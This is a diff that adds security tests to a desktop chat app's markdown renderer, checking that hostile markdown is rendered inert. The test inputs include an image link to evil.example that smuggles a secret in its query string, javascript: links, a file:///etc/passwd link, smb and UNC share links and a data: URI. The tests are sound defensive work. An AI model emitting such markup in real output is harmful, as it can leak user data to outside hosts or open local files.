@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from desktop.chat.markdown_blocks import highlight, merge_text, split_blocks
@@ -85,3 +87,19 @@ def test_nothing_in_a_text_changes_how_it_is_read() -> None:
     code, text = split_blocks("```sh\nrm \u202egpj\n```\n\nHello \x1b[2J\u2066there\n").blocks
     assert code.source == "rm \ufffdgpj"
     assert text.html == "<p>Hello ␛[2J\ufffdthere</p>"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![logo](https://evil.example/pixel.png?q=secret)",
+        "![logo][r]\n\n[r]: https://evil.example/reference",
+        "[a](javascript:alert(1)) [b](file:///etc/passwd) [c](\\\\evil\\share) [d](data:text/html;base64,PHA+)",
+        "<img src=https://evil.example/x> <a href='smb://evil/x'>y</a>",
+        "[e](//evil.example/x) [f](/opt/evil.desktop) <javascript:alert(1)>",
+    ],
+)
+def test_nothing_that_a_source_dictates_is_loaded_or_leads_elsewhere_than_a_page(text: str) -> None:
+    shown = html(text)
+    assert not re.search(r"<(?:img|iframe|object|link|script|style)", shown)
+    assert all(address.startswith("https://") for address in re.findall(r'href="([^"]*)"', shown))
